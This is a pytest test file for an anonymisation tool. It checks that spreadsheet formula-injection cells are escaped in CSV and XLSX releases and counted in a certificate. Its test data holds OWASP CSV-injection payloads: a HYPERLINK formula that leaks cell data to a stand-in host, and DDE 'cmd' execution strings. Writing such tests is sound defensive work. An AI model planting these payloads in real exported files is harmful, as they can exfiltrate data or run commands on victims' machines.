"""Releases are safe to open: cells a spreadsheet would run are written as text (OWASP CSV
injection), counted in the certificate, and the certificate still verifies."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.cli.test_cli import run
from veil.io import escape_formulas, write

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_each_owasp_trigger_is_escaped_and_plain_values_are_not() -> None:
    plain = ["-5", "+3.25", "1e-3", "Nairobi", "e-mail me", "", "12-3"]
    frame = pd.DataFrame({"note": ATTACKS + plain, "n": range(len(ATTACKS) + len(plain))})
    escaped, count = escape_formulas(frame)
    assert count == len(ATTACKS)
    assert escaped["note"].tolist() == ["'" + a for a in ATTACKS] + plain
    assert frame["note"].tolist() == ATTACKS + plain  # the input is never changed
    assert escaped["n"].equals(frame["n"])


def test_a_number_column_and_missing_cells_are_left_alone() -> None:
    frame = pd.DataFrame({"x": [-1.5, 2.0, None], "t": ["=1", None, pd.NA]}, dtype=object)
    frame["x"] = frame["x"].astype(float)
    escaped, count = escape_formulas(frame)
    assert count == 1
    assert escaped["x"].equals(frame["x"])
    assert escaped["t"].iloc[0] == "'=1"
    assert escaped["t"].iloc[1:].isna().all()


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="'=+-@a1 \t", max_size=5), min_size=1, max_size=30))
def test_escaping_never_makes_two_values_equal(values: list[str]) -> None:
    # the release's equivalence classes, and so its k, are exactly those of the unescaped one
    escaped, _ = escape_formulas(pd.DataFrame({"v": values}))
    assert escaped["v"].nunique() == pd.Series(values).nunique()
    for before, after in zip(values, escaped["v"], strict=True):
        assert after in (before, "'" + before)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.one_of(st.none(), st.text(alphabet="'=+-@a1é \t\r", max_size=4)), max_size=30),
    st.integers(0, 30),
    st.integers(0, 30),
    st.sampled_from(["str", "large", "object", "chunked"]),
)
def test_cells_are_escaped_alike_however_the_column_is_held(
    values: list[str | None], start: int, stop: int, held: str
) -> None:
    # the cells' first bytes are read from Arrow's buffers (a slice of a column starts at an
    # offset, a large string has 64-bit offsets, a column may be in chunks): whatever the
    # holding, the cells escaped are those escaped in a column of Python objects
    part = values[start:stop] or values
    arrow = pa.array(values, type=pa.large_string() if held == "large" else pa.string())
    arrow = arrow.slice(min(start, len(values)), len(part)) if values[start:stop] else arrow
    if held == "chunked":
        half = len(part) // 2
        column = pd.Series(
            pd.arrays.ArrowExtensionArray(
                pa.chunked_array([arrow.slice(0, half), arrow.slice(half)], type=pa.string())
            )
        )
    elif held == "object":
        column = pd.Series(part, dtype=object)
    else:
        column = pd.Series(pd.arrays.ArrowExtensionArray(arrow))
    escaped, count = escape_formulas(pd.DataFrame({"v": column}))
    plain, expected = escape_formulas(pd.DataFrame({"v": pd.Series(part, dtype=object)}))
    assert count == expected
    assert [None if pd.isna(v) else v for v in escaped["v"]] == [
        None if pd.isna(v) else v for v in plain["v"]
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_escapes_by_default_and_can_be_told_not_to(tmp_path: Path, suffix: str) -> None:
    frame = pd.DataFrame({"note": ATTACKS[:3]})
    safe, raw = tmp_path / f"safe{suffix}", tmp_path / f"raw{suffix}"
    write(frame, safe)
    write(frame, raw, escape_formulas=False)
    if suffix == ".csv":
        safe_cells = [row[0] for row in csv.reader(safe.open())][1:]
        raw_cells = [row[0] for row in csv.reader(raw.open())][1:]
    else:
        safe_cells = [c.value for c in openpyxl.load_workbook(safe).active["A"]][1:]
        raw_cells = [c.value for c in openpyxl.load_workbook(raw).active["A"]][1:]
    assert safe_cells == ["'" + a for a in ATTACKS[:3]]
    assert raw_cells == ATTACKS[:3]


def test_parquet_keeps_values_as_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": ATTACKS[:2]})
    write(frame, tmp_path / "r.parquet")
    assert pd.read_parquet(tmp_path / "r.parquet")["note"].tolist() == ATTACKS[:2]


def test_anonymize_counts_escaped_cells_and_the_release_verifies(
    tmp_path: Path, key_env: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data = pd.DataFrame(
        {
            "age": [30, 31, 32, 33, 34, 35] * 5,
            "comment": ([*ATTACKS[:3], "fine", "ok", "-4"]) * 5,
        }
    )
    data.to_csv(tmp_path / "d.csv", index=False)
    (tmp_path / "p.yaml").write_text(
        "version: 1\ncolumns:\n  age: {role: quasi_identifier}\n  comment: {role: insensitive}\n"
    )
    args = ["anonymize", tmp_path / "d.csv", "-p", tmp_path / "p.yaml", "-k", "2"]
    code, stdout, _ = run(
        [*args, "-o", tmp_path / "r.csv", "--certificate", tmp_path / "c.json"], capsys
    )
    assert code == 0, stdout
    cert = json.loads((tmp_path / "c.json").read_text())
    assert cert["escaped_cells"] == 15
    assert cert["format"] == 6
    assert "15 text cells that a spreadsheet would run" in stdout
    written = [row[1] for row in csv.reader((tmp_path / "r.csv").open())][1:]
    assert all(not cell.startswith(tuple("=+@")) for cell in written)
    assert written.count("-4") == 5  # a number stays a number
    code, stdout, _ = run(
        ["verify", tmp_path / "r.csv", "--certificate", tmp_path / "c.json"], capsys
    )
    assert code == 0, stdout

    code, _, _ = run(
        [
            *args,
            "-o",
            tmp_path / "raw.csv",
            "--certificate",
            tmp_path / "raw.json",
            "--no-escape-formulas",
        ],
        capsys,
    )
    assert code == 0
    assert json.loads((tmp_path / "raw.json").read_text())["escaped_cells"] == 0
    raw = [row[1] for row in csv.reader((tmp_path / "raw.csv").open())][1:]
    assert raw.count(ATTACKS[0]) == 5


def test_an_escaped_release_is_never_escaped_twice(tmp_path: Path) -> None:
    from veil.privacy import anonymize

    data = pd.DataFrame({"note": ["=1+1", "fine"] * 3})
    release = anonymize(data, {"version": 1, "columns": {"note": {"role": "insensitive"}}})
    escaped = release.with_formulas_escaped()
    assert escaped.certificate.escaped_cells == 3
    assert escaped.with_formulas_escaped().certificate.escaped_cells == 3
    write(escaped.data, tmp_path / "r.csv")  # write escapes by default: not a second time
    cells = [row[0] for row in csv.reader((tmp_path / "r.csv").open())][1:]
    assert sorted(cells) == sorted(["'=1+1", "fine"] * 3)  # (a release shuffles rows)
